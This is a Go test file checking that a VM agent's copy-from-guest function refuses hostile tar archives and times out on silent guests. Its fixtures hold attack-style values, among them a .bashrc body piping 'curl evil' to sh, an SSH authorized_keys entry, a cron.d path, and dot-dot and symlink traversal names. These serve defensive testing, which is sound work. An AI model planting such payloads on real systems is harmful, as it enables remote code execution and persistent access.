//go:build linux || darwin

package agent_test

import (
	"archive/tar"
	"bytes"
	"errors"
	"fmt"
	"net"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/sonix-run/sonix-run/agent"
	"github.com/sonix-run/sonix-run/agent/internal/treetest"
	"github.com/sonix-run/sonix-run/agent/wire"
)

var (
	cpT1 = time.Date(2023, 6, 7, 8, 9, 10, 0, time.UTC)
)

// tarOf builds an archive; a regular file's body is its Linkname. A
// header with Size set and no body declares data that does not follow.
func tarOf(t testing.TB, hs ...tar.Header) []byte {
	var buf bytes.Buffer
	tw := tar.NewWriter(&buf)
	for _, h := range hs {
		h := h
		h.Format = tar.FormatPAX
		if h.ModTime.IsZero() {
			h.ModTime = cpT1
		}
		if h.Typeflag == tar.TypeReg && h.Size > 0 {
			if err := tw.WriteHeader(&h); err != nil {
				t.Fatal(err)
			}
			return buf.Bytes() // the rest never comes
		}
		body := []byte(nil)
		if h.Typeflag == tar.TypeReg {
			body = []byte(h.Linkname)
			h.Linkname, h.Size = "", int64(len(body))
		}
		if err := tw.WriteHeader(&h); err != nil {
			t.Fatal(err)
		}
		tw.Write(body)
	}
	tw.Close()
	return buf.Bytes()
}

func cpDir(name string, mode int64) tar.Header {
	return tar.Header{Name: name, Typeflag: tar.TypeDir, Mode: mode}
}
func cpFile(name, body string, mode int64) tar.Header {
	return tar.Header{Name: name, Typeflag: tar.TypeReg, Mode: mode, Linkname: body}
}

// sendData writes data as stdout frames.
func sendData(st net.Conn, data []byte) {
	w := wire.NewWriter(st)
	for len(data) > 0 {
		n := min(len(data), wire.MaxData)
		w.Write(wire.FrameStdout, data[:n])
		data = data[n:]
	}
}

// TestCopyFromHostileGuest: a guest asked for /var/log/messages answers
// with something else, or breaks the archive's rules, or goes silent.
// Each is refused with a clear error, and the home-like destination comes
// out as it was: names, types, modes, owners, sizes, contents and times.
func TestCopyFromHostileGuest(t *testing.T) {
	var many []tar.Header
	many = append(many, cpDir("messages/", 0o755))
	for i := 0; i < 20; i++ {
		many = append(many, cpFile(fmt.Sprintf("messages/f%d", i), "x", 0o644))
	}
	partial := tarOf(t, cpDir("messages/", 0o755), cpFile("messages/a", "aaa", 0o644))
	partial = partial[:len(partial)-1024] // no end blocks: more would follow
	for _, tc := range []struct {
		name      string
		send      func(st net.Conn)
		limits    agent.CopyLimits
		want      string
		bound     bool // errors.Is(err, agent.ErrCopyBound)
		rootMtime bool // refused before anything was created
	}{
		{name: "renamed top-level entry", send: func(st net.Conn) {
			sendData(st, tarOf(t, cpFile(".bashrc", "curl evil | sh\n", 0o777)))
		}, want: `the archive's top-level entry is ".bashrc", but "messages" was asked for`, rootMtime: true},
		{name: ".ssh merged into", send: func(st net.Conn) {
			sendData(st, tarOf(t, cpDir(".ssh/", 0o777), cpFile(".ssh/authorized_keys", "ssh-ed25519 AAAA evil\n", 0o666)))
		}, want: `the archive's top-level entry is ".ssh", but "messages" was asked for`, rootMtime: true},
		{name: "absolute name", send: func(st net.Conn) {
			sendData(st, tarOf(t, cpFile("/etc/cron.d/evil", "x", 0o644)))
		}, want: "absolute names are refused", rootMtime: true},
		{name: "absolute name later", send: func(st net.Conn) {
			sendData(st, tarOf(t, cpDir("messages/", 0o755), cpFile("/tmp/evil", "x", 0o644)))
		}, want: "absolute names are refused"},
		{name: "dot-dot", send: func(st net.Conn) {
			sendData(st, tarOf(t, cpDir("messages/", 0o755), cpFile("messages/../.bashrc", "evil", 0o644)))
		}, want: "components are refused"},
		{name: "a link, then a file through it", send: func(st net.Conn) {
			sendData(st, tarOf(t, cpDir("messages/", 0o755), tar.Header{Name: "messages/l", Typeflag: tar.TypeSymlink, Linkname: ".."},
				cpFile("messages/l/.bashrc", "evil", 0o644)))
		}, want: `"messages/l" is not a directory (symbolic links are not followed)`},
		{name: "hard link", send: func(st net.Conn) {
			sendData(st, tarOf(t, cpDir("messages/", 0o755), tar.Header{Name: "messages/h", Typeflag: tar.TypeLink, Linkname: "../.bashrc"}))
		}, want: "hard links are refused"},
		{name: "huge declared size", send: func(st net.Conn) {
			sendData(st, tarOf(t, tar.Header{Name: "messages", Typeflag: tar.TypeReg, Mode: 0o644, Size: 1 << 50}))
			sendData(st, make([]byte, 1<<16))
		}, want: `archive entry "messages": the copy goes past its bound of 8 GiB of file data; raise the bound with agent.CopyLimits.MaxBytes, or sonix-run cp --max-bytes SIZE`, bound: true, rootMtime: true},
		{name: "too many entries", send: func(st net.Conn) {
			sendData(st, tarOf(t, many...))
		}, limits: agent.CopyLimits{MaxEntries: 5}, want: "goes past its bound of 5 entries; raise the bound with agent.CopyLimits.MaxEntries, or sonix-run cp --max-entries N", bound: true},
		{name: "silence before the start", send: func(st net.Conn) {}, limits: agent.CopyLimits{StartTimeout: 200 * time.Millisecond},
			want: "agent: get: the guest agent did not answer the request within 200ms; raise the bound with agent.CopyLimits.StartTimeout", bound: true, rootMtime: true},
		{name: "silence mid-archive", send: func(st net.Conn) {
			sendData(st, partial)
		}, limits: agent.CopyLimits{IdleTimeout: 200 * time.Millisecond}, want: "agent: get: the guest agent sent nothing for 200ms; raise the bound with agent.CopyLimits.IdleTimeout", bound: true},
		{name: "silence instead of the reply", send: func(st net.Conn) {
			sendData(st, tarOf(t, cpDir("messages/", 0o755), cpFile("messages/a", "aaa", 0o644)))
		}, limits: agent.CopyLimits{IdleTimeout: 200 * time.Millisecond}, want: "the guest agent sent nothing for 200ms", bound: true},
		{name: "an error mid-archive", send: func(st net.Conn) {
			sendData(st, partial)
			wire.NewWriter(st).Write(wire.FrameError, wire.EncodeError(0, "disk on fire"))
		}, want: "agent: get: disk on fire"},
		{name: "the stream closed mid-archive", send: func(st net.Conn) {
			sendData(st, partial)
			st.Close()
		}, want: "the guest closed the stream before the end of the archive"},
		{name: "junk after the archive", send: func(st net.Conn) {
			sendData(st, tarOf(t, cpFile("messages", "x", 0o644)))
			sendData(st, bytes.Repeat([]byte{0}, 200<<10))
		}, want: "more than 64 KiB of data after the archive's end"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			checkGoroutines(t)
			_, c := fakeGuest(t, func(st net.Conn, req *wire.Request) {
				if req.Op != wire.OpGet || string(req.Get.Path) != "/var/log/messages" {
					t.Errorf("request %+v", req)
				}
				tc.send(st)
				waitClosed(st)
			})
			home := treetest.HomeLike(t)
			before := treetest.Snapshot(t, home)
			start := time.Now()
			err := c.CopyFrom(testContext(t, 30*time.Second), "/var/log/messages", home, tc.limits)
			if err == nil || !strings.Contains(err.Error(), tc.want) {
				t.Fatalf("err %v, want %q", err, tc.want)
			}
			if errors.Is(err, agent.ErrCopyBound) != tc.bound {
				t.Errorf("errors.Is(err, ErrCopyBound) = %v", !tc.bound)
			}
			if d := time.Since(start); d > 10*time.Second {
				t.Errorf("took %v", d)
			}
			treetest.Same(t, before, treetest.Snapshot(t, home), tc.rootMtime)
		})
	}
}

// TestCopyToSilentGuest: a guest that does not answer a put, stops
// taking the archive, or never confirms it, is given up on after the
// bound, with an error that says so.
func TestCopyToSilentGuest(t *testing.T) {
	// More than yamux's windows, for a guest that takes nothing; less
	// than one, where every write must go through at once.
	big, small := filepath.Join(t.TempDir(), "big"), filepath.Join(t.TempDir(), "small")
	if err := os.WriteFile(big, make([]byte, 8<<20), 0o644); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(small, make([]byte, 1000), 0o644); err != nil {
		t.Fatal(err)
	}
	for _, tc := range []struct {
		name   string
		src    string
		guest  func(st net.Conn)
		limits agent.CopyLimits
		want   string
	}{
		{"no answer", small, func(st net.Conn) {}, agent.CopyLimits{StartTimeout: 200 * time.Millisecond},
			"agent: put: the guest agent did not answer the request within 200ms; raise the bound with agent.CopyLimits.StartTimeout"},
		{"takes nothing", big, func(st net.Conn) {
			wire.NewWriter(st).Write(wire.FrameStarted, wire.EncodeStarted(0))
		}, agent.CopyLimits{IdleTimeout: 300 * time.Millisecond}, "agent: put: the guest agent took none of the archive for 300ms"},
		{"never confirms", small, func(st net.Conn) {
			wire.NewWriter(st).Write(wire.FrameStarted, wire.EncodeStarted(0))
			r := wire.NewReader(st)
			for {
				f, err := r.Next()
				if err != nil || f.Type == wire.FrameStdinEOF {
					return
				}
			}
		}, agent.CopyLimits{IdleTimeout: 300 * time.Millisecond}, "agent: put: the guest agent did not confirm the copy within 300ms of the archive's end"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			checkGoroutines(t)
			release := make(chan struct{})
			_, c := fakeGuest(t, func(st net.Conn, req *wire.Request) {
				tc.guest(st)
				// Stalled: nothing more is read (a read would open
				// yamux's window) or sent, until the test ends.
				<-release
			})
			t.Cleanup(func() { close(release) }) // before fakeGuest's
			start := time.Now()
			err := c.CopyTo(testContext(t, 30*time.Second), tc.src, "/tmp/copy", tc.limits)
			if err == nil || !strings.Contains(err.Error(), tc.want) || !errors.Is(err, agent.ErrCopyBound) {
				t.Fatalf("err %v, want %q", err, tc.want)
			}
			if d := time.Since(start); d > 10*time.Second {
				t.Errorf("took %v", d)
			}
		})
	}
}
